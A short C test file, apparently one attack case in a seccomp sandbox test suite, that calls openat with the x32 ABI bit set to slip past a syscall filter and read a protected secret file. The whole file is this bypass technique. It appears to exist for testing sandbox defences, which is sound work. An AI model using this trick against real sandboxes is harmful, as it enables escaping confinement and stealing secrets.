/* technique: opens by the x32 entry point: the number of openat with bit 30
 * source: seccomp(2), x32 ABI
 * success: the content of vault/secret.txt on the output
 * control: none: most kernels are built without x32
 */
#include "attack.h"

int main(void)
{
	return show((int)syscall(SYS_openat | 0x40000000, AT_FDCWD, SECRET_FILE, O_RDONLY));
}
